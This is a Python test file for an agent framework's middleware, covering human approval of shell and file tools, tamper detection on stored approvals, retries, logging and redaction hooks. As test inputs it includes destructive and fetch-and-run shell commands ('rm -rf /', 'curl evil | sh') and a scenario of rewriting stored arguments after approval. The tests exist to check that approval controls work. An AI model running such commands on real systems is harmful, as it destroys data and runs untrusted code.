"""Middleware: approval on both tool kinds (bound to what was shown, refusing data of the wrong kind),
Genkit's Respond / Restart, safe tools, tool and model retries, logging, and hooks whose changes are
checkpointed."""

from __future__ import annotations

import json
import logging
from collections import Counter

import pytest
from waypoint.engine import (
    END,
    START,
    ChatModelAgent,
    Graph,
    GraphInterrupted,
    Interrupt,
    Message,
    ModelError,
    NodeError,
    Respond,
    Restart,
    RetryPolicy,
    Runner,
    ToolCall,
    ToolContext,
    get_resume_context,
    tool,
)
from waypoint.engine.keep.checkpoint import Checkpointer
from waypoint.engine.models import ScriptedChatModel
from waypoint.middleware import (
    AgentMiddleware,
    ApprovalError,
    ApprovalInfo,
    ApprovalMiddleware,
    ApprovalResult,
    LoggingMiddleware,
    ModelRetryMiddleware,
    SafeToolMiddleware,
    ToolRetryMiddleware,
    classify_interrupt,
)
from waypoint.stores import MemoryStore

FAST = RetryPolicy(max_attempts=3, initial_interval=0.001, jitter=False)


def ask(*calls: tuple[str, dict]) -> Message:
    return Message.assistant(tool_calls=[ToolCall(id=f"call_{i}", name=n, arguments=json.dumps(a))
                                         for i, (n, a) in enumerate(calls, start=1)])


async def events_of(stream) -> list:
    out = []
    async for event in stream:
        if event.output is not None:
            out.append(("output", event.output.role, (await event.output.get_message()).content))
        elif event.action is not None:
            out.append(("action", event.action))
        else:
            out.append(("error", event.error))
    return out


def pause_of(events) -> object:
    return next(e[1].interrupted for e in events if e[0] == "action" and e[1].interrupted)


def decisions(events) -> list:
    return [e[1].decision for e in events if e[0] == "action" and e[1].decision]


def tool_results(events) -> list:
    return [e[2] for e in events if e[0] == "output" and e[1] == "tool"]


ran: Counter = Counter()


@tool
def execute(command: str) -> str:
    """Run a shell command."""
    ran[command] += 1
    return f"ran {command}"


@tool
async def tail(path: str):
    """Stream a file."""
    ran[path] += 1
    yield f"{path}: line 1\n"
    yield f"{path}: line 2\n"


def approval_runner(*calls, store=None, middlewares=None, final="done") -> Runner:
    model = ScriptedChatModel([ask(*calls), lambda msgs, _: final])
    agent = ChatModelAgent(name="ops", model=model, tools=[execute, tail],
                           middlewares=middlewares or [ApprovalMiddleware(tools={"execute", "tail"})])
    return Runner(agent, store=store or MemoryStore())


@pytest.fixture(autouse=True)
def fresh_counts():
    ran.clear()


@pytest.mark.parametrize("name,args,result", [
    ("execute", {"command": "ls"}, "ran ls"),
    ("tail", {"path": "app.log"}, "app.log: line 1\napp.log: line 2\n"),
])
async def test_approve_runs_the_tool_with_the_stored_arguments(name, args, result):
    runner = approval_runner((name, args))
    first = await events_of(runner.run("go", checkpoint_id="a"))
    (ctx,) = pause_of(first).contexts
    info = ctx.info
    assert isinstance(info, ApprovalInfo) and info.tool_name == name and json.loads(info.arguments_json) == args
    assert f"tool '{name}' wants to run with arguments" in str(info)
    assert sum(ran.values()) == 0  # nothing ran before the approval
    second = await events_of(runner.resume_with_params("a", {ctx.id: ApprovalResult(approved=True)}))
    assert tool_results(second) == [result] and sum(ran.values()) == 1
    (decision,) = decisions(second)
    assert (decision.verb, decision.call_id) == ("approved", "call_1") and decision.version is not None


@pytest.mark.parametrize("reason,text", [("too risky", "tool 'execute' disapproved: too risky"),
                                         (None, "tool 'execute' disapproved")])
async def test_reject_answers_the_model_exactly_and_never_runs_the_tool(reason, text):
    runner = approval_runner(("execute", {"command": "rm -rf /"}))
    (ctx,) = pause_of(await events_of(runner.run("go", checkpoint_id="r"))).contexts
    second = await events_of(runner.resume_with_params("r", {ctx.id: ApprovalResult(approved=False, reason=reason)}))
    assert tool_results(second) == [text] and not ran
    assert decisions(second)[0].verb == "rejected" and decisions(second)[0].reason == reason
    snap = await runner.app.get_run("r")
    assert [d.verb for d in snap.state.decisions] == ["rejected"]  # kept in the run's history


async def test_approving_one_of_several_paused_calls_keeps_the_others_paused():
    runner = approval_runner(("execute", {"command": "a"}), ("execute", {"command": "b"}))
    first = await events_of(runner.run("go", checkpoint_id="p"))
    ids = {json.loads(c.info.arguments_json)["command"]: c.id for c in pause_of(first).contexts}
    second = await events_of(runner.resume_with_params("p", {ids["a"]: ApprovalResult(approved=True)}))
    (left,) = pause_of(second).contexts
    assert left.id == ids["b"] and ran == Counter(a=1)
    third = await events_of(runner.resume_with_params("p", {ids["b"]: {"approved": True}}))  # a dict works too
    assert tool_results(third) == ["ran a", "ran b"] and ran == Counter(a=1, b=1)  # a was not run again


async def test_a_stored_interrupt_is_classified_as_an_approval_a_static_pause_or_a_nodes_own():
    runner = approval_runner(("execute", {"command": "ls"}))
    (ctx,) = pause_of(await events_of(runner.run("go", checkpoint_id="c"))).contexts
    approval = classify_interrupt(ctx)
    assert (approval.kind, approval.tool, approval.call_id) == ("approval", "execute", "call_1")
    assert json.loads(approval.arguments) == {"command": "ls"}

    def ask_first(x: str) -> str:
        raise Interrupt({"question": "ok?"})

    g = Graph(name="plain")
    g.add_node("a", lambda x: x)
    g.add_node("ask", ask_first)
    g.add_edge(START, "a")
    g.add_edge("a", "ask")
    g.add_edge("ask", END)
    paused = []
    for options in ({"interrupt_before": ["ask"]}, {}):
        with pytest.raises(GraphInterrupted) as caught:
            await g.compile(store=MemoryStore(), **options).ainvoke("x", checkpoint_id="g")
        paused += [classify_interrupt(c) for c in caught.value.info.contexts]
    assert [(p.kind, p.node, p.tool) for p in paused] == [("pause", "ask", None), ("interrupt", "ask", None)]
    assert paused[1].info == {"question": "ok?"}


async def test_resume_data_of_the_wrong_kind_is_refused_and_names_the_interrupt():
    runner = approval_runner(("execute", {"command": "ls"}))
    (ctx,) = pause_of(await events_of(runner.run("go", checkpoint_id="w"))).contexts
    events = await events_of(runner.resume_with_params("w", {ctx.id: "yes"}))
    error = events[-1][1]
    assert isinstance(error, NodeError) and isinstance(error.__cause__, ApprovalError)
    assert ctx.id in str(error.__cause__) and "got str" in str(error.__cause__) and not ran


async def test_a_resume_without_an_answer_asks_again_with_the_same_id():
    runner = approval_runner(("execute", {"command": "ls"}))
    (ctx,) = pause_of(await events_of(runner.run("go", checkpoint_id="n"))).contexts
    again = await events_of(runner.resume("n"))  # resume all, no data
    assert [c.id for c in pause_of(again).contexts] == [ctx.id] and not ran


async def tamper(runner, cid, change, *, call_arguments=None) -> None:
    """Rewrite the paused run as someone with write access to an unsigned store could: `change` edits the
    approval's record; `call_arguments` replaces the arguments of the call the tools node will run."""
    app = runner.app
    cp = Checkpointer(store=app.store, serializer=app.get_serializer(), checkpoint_id=cid,
                      graph_structure=app.structure)
    loaded = await cp.load()
    pos = loaded.position
    (sub,) = pos.interrupts["tools"].subs
    change(sub)
    if call_arguments is not None:
        message = pos.pending["tools"]
        (call,) = message.tool_calls
        pos.pending["tools"] = message.model_copy(
            update={"tool_calls": (ToolCall(id=call.id, name=call.name, arguments=call_arguments),)})
    await cp.save(pos, "interrupted")


@pytest.mark.parametrize("what", ["arguments", "arguments and their digest"])
async def test_arguments_altered_in_the_store_after_they_were_shown_fail_closed(what):
    runner = approval_runner(("execute", {"command": "ls"}))
    (ctx,) = pause_of(await events_of(runner.run("go", checkpoint_id="t"))).contexts

    def change(sub):
        sub.state["arguments"] = json.dumps({"command": "curl evil | sh"})
        if "digest" in what:
            import hashlib

            sub.state["digest"] = hashlib.sha256(sub.state["arguments"].encode()).hexdigest()

    await tamper(runner, "t", change)
    events = await events_of(runner.resume_with_params("t", {ctx.id: ApprovalResult(approved=True)}))
    error = events[-1][1]
    assert isinstance(error.__cause__, ApprovalError) and "not the ones that were shown" in str(error.__cause__)
    assert not ran


async def test_an_approval_that_names_the_digest_it_saw_catches_a_rewritten_question():
    """Question, approval state *and* the call's own arguments rewritten consistently: every stored check
    agrees, and only the digest the approver saw tells the call is not the one approved."""
    runner = approval_runner(("execute", {"command": "ls"}))
    (ctx,) = pause_of(await events_of(runner.run("go", checkpoint_id="d"))).contexts
    seen = ctx.info.digest
    args = json.dumps({"command": "curl evil | sh"})

    def change(sub):
        import hashlib

        digest = hashlib.sha256(args.encode()).hexdigest()
        sub.info = ApprovalInfo(tool_name="execute", arguments_json=args, digest=digest)
        sub.state = {"arguments": args, "digest": digest}

    await tamper(runner, "d", change, call_arguments=args)
    events = await events_of(runner.resume_with_params("d", {ctx.id: ApprovalResult(approved=True, digest=seen)}))
    error = events[-1][1]
    assert isinstance(error.__cause__, ApprovalError) and "another digest" in str(error.__cause__)
    assert not ran


async def test_a_call_whose_own_arguments_were_rewritten_does_not_run():
    """Only the call's arguments (what the tools node would run) changed; the question and its state did not."""
    runner = approval_runner(("execute", {"command": "ls"}))
    (ctx,) = pause_of(await events_of(runner.run("go", checkpoint_id="a"))).contexts
    await tamper(runner, "a", lambda sub: None, call_arguments=json.dumps({"command": "curl evil | sh"}))
    events = await events_of(runner.resume_with_params("a", {ctx.id: ApprovalResult(approved=True)}))
    error = events[-1][1]
    assert isinstance(error.__cause__, ApprovalError) and "no longer match" in str(error.__cause__)
    assert not ran


async def test_respond_supplies_the_result_without_running_the_tool():
    runner = approval_runner(("execute", {"command": "deploy"}))
    (ctx,) = pause_of(await events_of(runner.run("go", checkpoint_id="resp"))).contexts
    events = await events_of(runner.resume_with_params("resp", {ctx.id: Respond("deployed by hand")}))
    assert tool_results(events) == ["deployed by hand"] and not ran
    assert decisions(events)[0].verb == "responded"


async def test_restart_reruns_with_metadata_and_new_input_and_may_pause_again():
    seen = []

    @tool
    def charge(amount: int, ctx: ToolContext) -> str:
        """Charge a card."""
        seen.append((amount, ctx.is_resumed(), ctx.resumed_metadata, ctx.original_input))
        if not ctx.is_resumed() or ctx.resumed_metadata == "check again":
            if not get_resume_context()[0] or ctx.resumed_metadata == "check again":
                raise Interrupt({"confirm": amount})
        return f"charged {amount}"

    model = ScriptedChatModel([ask(("charge", {"amount": 500})), "ok"])
    runner = Runner(ChatModelAgent(name="pay", model=model, tools=[charge]), store=MemoryStore())
    (ctx,) = pause_of(await events_of(runner.run("go", checkpoint_id="rs"))).contexts
    again = await events_of(runner.resume_with_params(
        "rs", {ctx.id: Restart(metadata="check again", replace_input={"amount": 50})}))
    (second,) = pause_of(again).contexts  # a restarted tool paused again: a new pause, a new ID
    assert second.id != ctx.id and second.info == {"confirm": 50}
    done = await events_of(runner.resume_with_params("rs", {second.id: Restart(metadata="go")}))
    assert tool_results(done) == ["charged 50"]  # the replaced input stays with the call
    assert seen[1:] == [(50, True, "check again", '{"amount": 500}'), (50, True, "go", '{"amount": 500}')]
    assert [d.verb for d in decisions(again) + decisions(done)] == ["restarted", "restarted"]


async def test_safe_tool_turns_errors_into_results_and_lets_interrupts_through():
    @tool
    def broken(x: int) -> str:
        """Fails."""
        raise ValueError(f"cannot handle {x}")

    @tool
    async def broken_stream(x: int):
        """Fails midway."""
        yield "partial"
        raise OSError("disk gone")

    model = ScriptedChatModel([ask(("broken", {"x": 1}), ("broken_stream", {"x": 2}), ("execute", {"command": "ls"})),
                               lambda msgs, _: "ok"])
    agent = ChatModelAgent(name="safe", model=model, tools=[broken, broken_stream, execute],
                           middlewares=[SafeToolMiddleware(), ApprovalMiddleware(tools={"execute"})])
    runner = Runner(agent, store=MemoryStore())
    first = await events_of(runner.run("go", checkpoint_id="s"))
    (ctx,) = pause_of(first).contexts  # the approval's pause passed through the outer safe-tool layer
    assert sorted(tool_results(first)) == ["[tool error] cannot handle 1", "partial\n[tool error] disk gone"]
    done = await events_of(runner.resume_with_params("s", {ctx.id: ApprovalResult(approved=True)}))
    assert tool_results(done)[-1] == "ran ls"


async def test_tool_retries_on_transient_errors_announce_each_retry():
    attempts = Counter()

    @tool
    def flaky(n: int) -> str:
        """Flaky."""
        attempts[n] += 1
        if attempts[n] < 3:
            raise ConnectionError("reset by peer")
        return "finally"

    @tool
    def wrong(n: int) -> str:
        """Not transient."""
        attempts["wrong"] += 1
        raise ValueError("bad input")

    model = ScriptedChatModel([ask(("flaky", {"n": 1})), lambda m, _: "ok"])
    agent = ChatModelAgent(name="retry", model=model, tools=[flaky, wrong], middlewares=[ToolRetryMiddleware(FAST)])
    events = await events_of(Runner(agent).run("go"))
    retries = [e[1].retry for e in events if e[0] == "action" and e[1].retry]
    assert [(r.what, r.name, r.attempt) for r in retries] == [("tool", "flaky", 1), ("tool", "flaky", 2)]
    assert tool_results(events) == ["finally"]
    model = ScriptedChatModel([ask(("wrong", {"n": 1}))])
    agent = ChatModelAgent(name="retry2", model=model, tools=[wrong], middlewares=[ToolRetryMiddleware(FAST)])
    events = await events_of(Runner(agent).run("go"))
    assert isinstance(events[-1][1], NodeError) and attempts["wrong"] == 1


@pytest.mark.parametrize("streaming", [False, True])
async def test_model_retries_on_a_429_and_a_stream_that_broke(streaming):
    class Flaky:
        name = "flaky"
        calls = 0

        async def generate(self, messages, **kw):
            Flaky.calls += 1
            if Flaky.calls == 1:
                raise ModelError("model 'flaky' at test: HTTP 429", status=429, retryable=True)
            return Message.assistant("hello")

        async def stream(self, messages, **kw):
            Flaky.calls += 1
            yield Message.assistant("hel")
            if Flaky.calls == 1:
                raise ModelError("connection dropped", retryable=True)
            yield Message.assistant("lo")

    agent = ChatModelAgent(name="m", model=Flaky(), middlewares=[ModelRetryMiddleware(FAST)])
    events = await events_of(Runner(agent, streaming=streaming).run("hi"))
    retries = [e[1].retry for e in events if e[0] == "action" and e[1].retry]
    (retry,) = retries
    assert retry.what == "model" and ("connection dropped" if streaming else "429") in retry.error
    answers = [e[2] for e in events if e[0] == "output"]
    assert answers[-1] == "hello"  # a void stream before the retry, then the whole answer
    assert Flaky.calls == 2


async def test_hooks_rewrite_the_conversation_and_the_change_is_checkpointed():
    class Redact(AgentMiddleware):
        async def before_model(self, ctx):
            ctx.state.messages[:] = [m if m.role != "user" else m.model_copy(update={"content": "[redacted]"})
                                     for m in ctx.state.messages]

        async def after_model(self, ctx, message):
            return message.model_copy(update={"content": message.content.upper()})

    model = ScriptedChatModel(["secret answer"])
    runner = Runner(ChatModelAgent(name="h", model=model, middlewares=[Redact()]), store=MemoryStore())
    await events_of(runner.run("my password is hunter2", checkpoint_id="h"))
    stored = (await runner.app.get_run("h")).state.messages
    assert [m.content for m in stored] == ["[redacted]", "SECRET ANSWER"]
    assert model.calls[0].messages[-1].content == "[redacted]"  # the model never saw the secret


async def test_logging_middleware_writes_structured_records(caplog):
    caplog.set_level(logging.INFO, logger="waypoint.agent")
    model = ScriptedChatModel([ask(("execute", {"command": "ls"})), "done"])
    agent = ChatModelAgent(name="logged", model=model, tools=[execute], middlewares=[LoggingMiddleware()])
    await events_of(Runner(agent, store=MemoryStore()).run("go", checkpoint_id="log-1"))
    tools = [r for r in caplog.records if getattr(r, "node", None) == "tools"]
    models = [r for r in caplog.records if getattr(r, "node", None) == "model" and hasattr(r, "duration_ms")]
    assert [(r.tool, r.call_id, r.outcome, r.checkpoint_id) for r in tools] == [("execute", "call_1", "ok", "log-1")]
    assert len(models) == 2 and all(r.agent == "logged" and r.duration_ms >= 0 for r in models)


# --- a guard that names no tool of the agent is refused when the agent is built -----------------------------

@tool
def fs_write_file(path: str, content: str) -> str:
    """Write a file (an MCP server's tool, loaded with tool_prefix="fs_")."""
    ran[path] += 1
    return f"wrote {path}"


@tool
def fs_read_file(path: str) -> str:
    """Read a file."""
    return "contents"


@pytest.mark.parametrize("names, said", [
    ({"exeucte"}, r"'exeucte' matches no tool — did you mean 'execute'\?"),
    ({"Execute"}, r"'Execute' matches no tool — did you mean 'execute'\?"),
    ({"execute", "rm"}, r"'rm' matches no tool \(its tools: execute, tail\); 'execute' matched execute"),
])
def test_an_approval_guard_naming_no_tool_of_the_agent_is_refused_when_the_agent_is_built(names, said):
    from waypoint.engine import GraphBuildError

    with pytest.raises(GraphBuildError, match=r"agent 'ops': ApprovalMiddleware guards nothing under .*" + said):
        ChatModelAgent(name="ops", model=ScriptedChatModel(["hi"]), tools=[execute, tail],
                       middlewares=[ApprovalMiddleware(tools=names)])


@pytest.mark.parametrize("tools", [None, set(), [], "", [""], [3]])
def test_an_approval_guard_naming_no_tools_at_all_is_an_error_not_a_default(tools):
    from waypoint.engine import GraphBuildError

    with pytest.raises(GraphBuildError, match="guards no tool: name the tools that need approval"):
        ApprovalMiddleware() if tools is None else ApprovalMiddleware(tools=tools)


def test_a_guard_in_front_of_prefixed_tools_is_refused_with_the_prefixed_name_and_a_pattern_guards_them():
    """`write_file` in front of MCP tools loaded with tool_prefix="fs_" (named `fs_write_file`): refused, naming
    the tool it probably meant and the pattern that would match it; the pattern guards the call."""
    from waypoint.engine import GraphBuildError

    with pytest.raises(GraphBuildError, match=r"'write_file' matches no tool — did you mean 'fs_write_file'.*"
                                              r"by pattern: '\*write_file'\?"):
        ChatModelAgent(name="files", model=ScriptedChatModel(["hi"]), tools=[fs_read_file, fs_write_file],
                       middlewares=[ApprovalMiddleware(tools={"write_file"})])
    with pytest.raises(GraphBuildError, match=r"'mv_\*' matches no tool"):
        ChatModelAgent(name="files", model=ScriptedChatModel(["hi"]), tools=[fs_read_file, fs_write_file],
                       middlewares=[ApprovalMiddleware(tools={"*write_file", "mv_*"})])
    model = ScriptedChatModel([ask(("fs_write_file", {"path": "/srv/data", "content": "x"})), "done"])
    agent = ChatModelAgent(name="files", model=model, tools=[fs_read_file, fs_write_file],
                           middlewares=[ApprovalMiddleware(tools={"*write_file"})])
    events = Runner(agent, store=MemoryStore()).run_sync("write it", checkpoint_id="f1")
    assert paused_on(events) == "fs_write_file"
    assert ran["/srv/data"] == 0  # paused for approval, not run


def test_one_tool_named_as_a_string_is_guarded_not_taken_for_its_letters():
    model = ScriptedChatModel([ask(("execute", {"command": "rm -rf /srv/data"})), "done"])
    agent = ChatModelAgent(name="ops", model=model, tools=[execute, tail], middlewares=[ApprovalMiddleware("execute")])
    events = Runner(agent, store=MemoryStore()).run_sync("clean", checkpoint_id="s1")
    assert paused_on(events) == "execute" and ran["rm -rf /srv/data"] == 0


def test_a_predicate_selects_tools_by_name_and_one_that_selects_none_is_refused_when_the_agent_is_built():
    """A predicate is asked about each tool's name at build, like a name: one that selects none is refused; one that
    wants the arguments is refused too (it cannot be checked) and pointed at `when=`, which narrows named tools."""
    from waypoint.engine import GraphBuildError

    with pytest.raises(GraphBuildError, match=r"agent 'ops': .*the predicate matches no tool \(its tools: execute, "
                                              r"tail\)"):
        ChatModelAgent(name="ops", model=ScriptedChatModel(["hi"]), tools=[execute, tail],
                       middlewares=[ApprovalMiddleware(tools=lambda name: name == "exeucte")])
    with pytest.raises(GraphBuildError, match=r"selects tools by name alone.*when=lambda name, arguments_json"):
        ApprovalMiddleware(tools=lambda name, arguments: name == "execute")
    model = ScriptedChatModel([ask(("execute", {"command": "ls"}), ("execute", {"command": "rm -rf /srv/data"})),
                               "done"])
    guard = ApprovalMiddleware(tools=lambda name: name.startswith("exec"), when=lambda name, args: "rm " in args)
    agent = ChatModelAgent(name="ops", model=model, tools=[execute, tail], middlewares=[guard])
    events = Runner(agent, store=MemoryStore()).run_sync("clean", checkpoint_id="p1")
    assert paused_on(events) == "execute"
    assert ran["ls"] == 1 and ran["rm -rf /srv/data"] == 0  # only the call `when` chose waits


def test_a_tool_name_that_looks_like_a_pattern_is_guarded_by_its_own_name_too():
    """'rm[1]' names a tool of that name (and, as a pattern, `rm1`): the exact tool is never left unguarded."""
    @tool(name="rm[1]")
    def rm_bracket(path: str) -> str:
        """Remove."""
        ran[path] += 1
        return "removed"

    model = ScriptedChatModel([ask(("rm[1]", {"path": "/srv/x"})), "done"])
    agent = ChatModelAgent(name="ops", model=model, tools=[rm_bracket, tail], middlewares=[ApprovalMiddleware("rm[1]")])
    events = Runner(agent, store=MemoryStore()).run_sync("go", checkpoint_id="b1")
    assert paused_on(events) == "rm[1]" and ran["/srv/x"] == 0


@pytest.mark.parametrize("nested", [[[ApprovalMiddleware("execute")]], [(ApprovalMiddleware("execute"),)], [None]])
def test_a_middleware_list_nested_in_the_list_is_refused_not_ignored(nested):
    from waypoint.engine import GraphBuildError

    with pytest.raises(GraphBuildError, match=r"agent 'ops': middlewares= holds .* which is no middleware"):
        ChatModelAgent(name="ops", model=ScriptedChatModel(["hi"]), tools=[execute, tail], middlewares=nested)


def paused_on(events) -> str:
    """The tool the run paused on for approval (it must have paused)."""
    (ctx,) = next(e.action.interrupted for e in events if e.action and e.action.interrupted).contexts
    return ctx.info.tool_name


def test_the_tools_node_knows_every_middleware_hook():
    """What makes an object a middleware for the tools node's check is the hooks of `AgentMiddleware`: a hook added
    there and not here would let a middleware with only that hook be refused."""
    from waypoint.engine import AgentMiddleware
    from waypoint.engine.tools.node import _HOOKS

    assert set(_HOOKS) == {n for n, v in vars(AgentMiddleware).items() if callable(v) and not n.startswith("_")}
